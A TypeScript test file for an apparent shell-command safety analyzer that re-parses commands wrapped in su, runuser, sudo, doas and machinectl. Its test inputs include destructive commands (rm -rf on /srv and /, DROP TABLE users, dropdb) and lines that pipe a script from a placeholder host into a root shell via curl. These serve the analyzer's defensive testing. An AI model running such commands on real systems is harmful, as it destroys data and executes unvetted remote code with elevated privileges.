import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { before, describe, it } from 'node:test';
import { analyzeAction } from '../../../server/src/core/engine';
import type { Parsers } from '../../../server/src/core/parsers';
import { suInvocation } from '../../../server/src/core/shell/user-wrappers';
import { CORPUS, NEEDS_CORPUS, parsers } from '../../helpers/parsers';
import { analyze, only, spanText } from './helpers';

/** The one command named `name` in `text`: its argv values, wrappers, runAs and source text. */
async function inner(text: string, name: string) {
  const cmd = only(await analyze(text), name);
  return {
    argv: cmd.argv.map((w) => w.value),
    wrappers: cmd.wrappers,
    runAs: cmd.runAs,
    span: spanText(text, cmd),
  };
}

describe('su(1) and runuser(1): the command they hand to the shell is re-parsed', () => {
  // [text, inner program, its argv, wrappers, runAs]
  const cases: [string, string, string[], string[], string | undefined][] = [
    [
      `su - postgres -c "psql -c 'DROP TABLE users'"`,
      'psql',
      ['psql', '-c', 'DROP TABLE users'],
      ['su -c'],
      'postgres',
    ],
    [
      `su -c "psql -c 'DROP TABLE users'" postgres`,
      'psql',
      ['psql', '-c', 'DROP TABLE users'],
      ['su -c'],
      'postgres',
    ],
    [`su -l postgres -c 'dropdb app'`, 'dropdb', ['dropdb', 'app'], ['su -c'], 'postgres'],
    [`su --login postgres --command 'dropdb app'`, 'dropdb', ['dropdb', 'app'], ['su -c'], 'postgres'],
    [`su --command='dropdb app' postgres`, 'dropdb', ['dropdb', 'app'], ['su -c'], 'postgres'],
    [`su --session-command='dropdb app' postgres`, 'dropdb', ['dropdb', 'app'], ['su -c'], 'postgres'],
    [`su -s /bin/bash -c 'rm -rf /srv/app' deploy`, 'rm', ['rm', '-rf', '/srv/app'], ['su -c'], 'deploy'],
    [`su -c 'rm -rf /srv/app'`, 'rm', ['rm', '-rf', '/srv/app'], ['su -c'], 'root'],
    [`su -c'rm -rf /srv/app'`, 'rm', ['rm', '-rf', '/srv/app'], ['su -c'], 'root'],
    // Options after `--` go to the shell, which runs `-c TEXT` itself.
    [`su postgres -- -c 'dropdb app'`, 'dropdb', ['dropdb', 'app'], ['su -c'], 'postgres'],
    [`runuser -l postgres -c 'dropdb app'`, 'dropdb', ['dropdb', 'app'], ['runuser -c'], 'postgres'],
    [`runuser -u postgres -- dropdb app`, 'dropdb', ['dropdb', 'app'], ['runuser -u'], 'postgres'],
    [`runuser --user=postgres dropdb app`, 'dropdb', ['dropdb', 'app'], ['runuser -u'], 'postgres'],
    [`sudo su - postgres -c 'dropdb app'`, 'dropdb', ['dropdb', 'app'], ['sudo', 'su -c'], 'postgres'],
    [`su - joe -c "sudo -u postgres dropdb app"`, 'dropdb', ['dropdb', 'app'], ['su -c', 'sudo'], 'postgres'],
  ];
  for (const [text, name, argv, wrappers, runAs] of cases) {
    it(text, async () => {
      const r = await inner(text, name);
      assert.deepEqual([r.argv, r.wrappers, r.runAs], [argv, wrappers, runAs]);
      assert.ok(r.span.startsWith(name), r.span);
    });
  }

  it('maps the re-parsed text back to its exact source position', async () => {
    const text = `su - postgres -c "psql -c 'DROP TABLE users'"`;
    assert.equal((await inner(text, 'psql')).span, "psql -c 'DROP TABLE users'");
    const attached = `su --command='dropdb app' postgres`;
    assert.equal((await inner(attached, 'dropdb')).span, 'dropdb app');
    // Escapes removed: the text maps back only to the word holding it.
    const escaped = `su --command="echo \\"x\\"; dropdb app" postgres`;
    assert.equal((await inner(escaped, 'dropdb')).span, `--command="echo \\"x\\"; dropdb app"`);
  });

  it('reads the command line as su-common.c does (options anywhere, `-` then the user)', async () => {
    const read = async (text: string) => {
      const inv = suInvocation(only(await analyze(text), 'su'));
      return inv && { user: inv.user, command: inv.command?.value, args: inv.shellArgs.map((w) => w.value) };
    };
    assert.deepEqual(await read('su - postgres -c "psql" arg0 arg1'), {
      user: 'postgres',
      command: 'psql',
      args: ['arg0', 'arg1'],
    });
    assert.deepEqual(await read('su -c ls -s /bin/sh oracle'), { user: 'oracle', command: 'ls', args: [] });
    assert.deepEqual(await read('su'), { user: 'root', command: undefined, args: [] });
    assert.deepEqual(await read('su -cp filename.sh'), { user: 'filename.sh', command: 'p', args: [] });
    assert.deepEqual(await read('su $username -c tar xzvf'), {
      user: undefined,
      command: 'tar',
      args: ['xzvf'],
    });
    assert.equal(await read('su --help'), undefined);
  });

  it('a shell started without a command runs its static stdin', async () => {
    const text = `echo "psql -c 'DROP TABLE users'" | su - postgres`;
    const r = await inner(text, 'psql');
    assert.deepEqual([r.wrappers, r.runAs], [['su (stdin)'], 'postgres']);
    const sudo = await inner(`echo 'dropdb app' | sudo -iu postgres`, 'dropdb');
    assert.deepEqual([sudo.wrappers, sudo.runAs], [['sudo -i (stdin)'], 'postgres']);
    const heredoc = `su - postgres <<'SQL'\npsql -c 'DROP TABLE users'\nSQL`;
    const h = await inner(heredoc, 'psql');
    assert.deepEqual([h.wrappers, h.span], [['su (stdin)'], "psql -c 'DROP TABLE users'"]);
    const doas = await inner(`echo 'dropdb app' | doas -s`, 'dropdb');
    assert.deepEqual(doas.wrappers, ['doas -s (stdin)']);
  });

  it('does not invent a command: interactive shells and script operands run nothing judged here', async () => {
    for (const text of ['su - postgres', 'sudo su -', 'su - jetty ./runprogram.sh', 'runuser -u postgres']) {
      const a = await analyze(text);
      assert.deepEqual(
        a.commands.filter((c) => c.wrappers.length > 0 && c.name !== 'su').map((c) => c.name),
        [],
        text,
      );
      assert.deepEqual(a.findings, [], text);
    }
  });

  it('text built at run time, or piped in, is opaque', async () => {
    const opaque = async (text: string) =>
      (await analyze(text)).findings.filter((f) => f.ruleId === 'opaque-execution').map((f) => f.message);
    assert.deepEqual(await opaque('su -c "$CMD" postgres'), [
      'su -c runs text built at run time ("$CMD"), which cannot be judged.',
    ]);
    assert.deepEqual(await opaque('runuser -l app --session-command="$HOME/bin/start"'), [
      'runuser -c runs text built at run time (--session-command="$HOME/bin/start"), which cannot be judged.',
    ]);
    assert.deepEqual(await opaque('curl -s https://x.example/i.sh | su -'), [
      'su runs text piped from curl, which cannot be known before it runs.',
    ]);
    assert.deepEqual(await opaque('curl -s https://x.example/i.sh | sudo -s'), [
      'sudo runs text piped from curl, which cannot be known before it runs.',
    ]);
    assert.deepEqual(await opaque("su -c 'ls -la' app"), []);
  });
});

describe('sudo(8), doas(1) and machinectl(1)', () => {
  const cases: [string, string, string[], string[], string | undefined][] = [
    // -i / -s with a command: sudo escapes the words for the shell's -c, so they run as this argv.
    [`sudo -i psql -c 'DROP TABLE users'`, 'psql', ['psql', '-c', 'DROP TABLE users'], ['sudo'], undefined],
    [`sudo -s -u postgres dropdb app`, 'dropdb', ['dropdb', 'app'], ['sudo'], 'postgres'],
    [`sudo -u postgres -- psql -l`, 'psql', ['psql', '-l'], ['sudo'], 'postgres'],
    [`sudo --user=postgres PGHOST=db psql`, 'psql', ['psql'], ['sudo'], 'postgres'],
    // -k with a command runs it (only -K, -l, -v and -e run nothing).
    [`sudo -k rm -rf /srv`, 'rm', ['rm', '-rf', '/srv'], ['sudo'], undefined],
    [`doas -u postgres dropdb app`, 'dropdb', ['dropdb', 'app'], ['doas'], 'postgres'],
    [`doas -a bsdauth -u root rm -rf /srv`, 'rm', ['rm', '-rf', '/srv'], ['doas'], 'root'],
    [
      `machinectl shell postgres@db1 /usr/bin/psql -c 'DROP TABLE users'`,
      'psql',
      ['/usr/bin/psql', '-c', 'DROP TABLE users'],
      ['machinectl shell'],
      'postgres',
    ],
    [
      `machinectl --uid=app shell .host /bin/rm -rf /srv`,
      'rm',
      ['/bin/rm', '-rf', '/srv'],
      ['machinectl shell'],
      'app',
    ],
  ];
  for (const [text, name, argv, wrappers, runAs] of cases) {
    it(text, async () => {
      const r = await inner(text, name);
      assert.deepEqual([r.argv, r.wrappers, r.runAs], [argv, wrappers, runAs]);
    });
  }

  it('machinectl shell runs in the named machine; without a program it opens a shell only', async () => {
    const cmd = only(await analyze('machinectl shell root@prod-db1 /usr/bin/dropdb app'), 'dropdb');
    assert.deepEqual(cmd.remote, { via: 'machinectl shell', host: 'prod-db1' });
    const local = only(await analyze('machinectl shell .host /usr/bin/dropdb app'), 'dropdb');
    assert.deepEqual(local.remote, { via: 'machinectl shell', host: undefined });
    assert.equal((await analyze('machinectl shell prod-db1')).commands.length, 1);
  });

  it('sudo -l, -v, -e and doas -C run no command', async () => {
    for (const text of [
      'sudo -l rm -rf /',
      'sudo -v',
      'sudo -e /etc/hosts',
      'doas -C /etc/doas.conf rm -rf /',
    ]) {
      assert.deepEqual(
        (await analyze(text)).commands.map((c) => c.name),
        [text.split(' ')[0]],
        text,
      );
    }
  });
});

describe('su on the real shell corpus', { skip: NEEDS_CORPUS }, () => {
  let p: Parsers;
  before(async () => {
    p = await parsers();
  });
  const lines = fs
    .readFileSync(path.join(CORPUS, 'shell/all.cm'), 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '');

  it('every su/runuser -c of the corpus is re-parsed, or reported opaque when built at run time', async () => {
    let withCommand = 0;
    for (const line of lines) {
      const a = await analyze(line);
      for (const su of a.commands.filter((c) => suInvocation(c)?.command)) {
        withCommand++;
        const wrapper = `${[...su.wrappers, `${su.name ?? ''} -c`].join('|')}`;
        const ran = a.commands.some((c) => c.wrappers.join('|').startsWith(wrapper));
        const opaque = a.findings.some((f) => f.ruleId === 'opaque-execution');
        assert.ok(ran || opaque, line);
      }
    }
    assert.ok(withCommand >= 25, `only ${withCommand} su -c commands`);
  });

  it('the corpus\'s `su - postgres -c "psql … -c …"` runs psql as postgres, and its SQL is judged', () => {
    const line = lines.find((l) => l.startsWith('su - postgres -c "/usr/bin/psql'));
    assert.ok(line);
    const analysis = analyzeAction(p, { kind: 'shell', text: line });
    const psql = analysis.shell?.commands.find((c) => c.name === 'psql');
    assert.deepEqual([psql?.wrappers, psql?.runAs], [['su -c'], 'postgres']);
    // The corpus line is cut short (`|| ....`): the SQL cannot be parsed, which is a finding
    // (`unparsed`) rather than an allow.
    assert.ok(
      analysis.findings.some((f) => f.ruleId === 'unparsed' && f.command?.program === 'psql'),
      JSON.stringify(analysis.findings.map((f) => f.ruleId)),
    );
  });
});
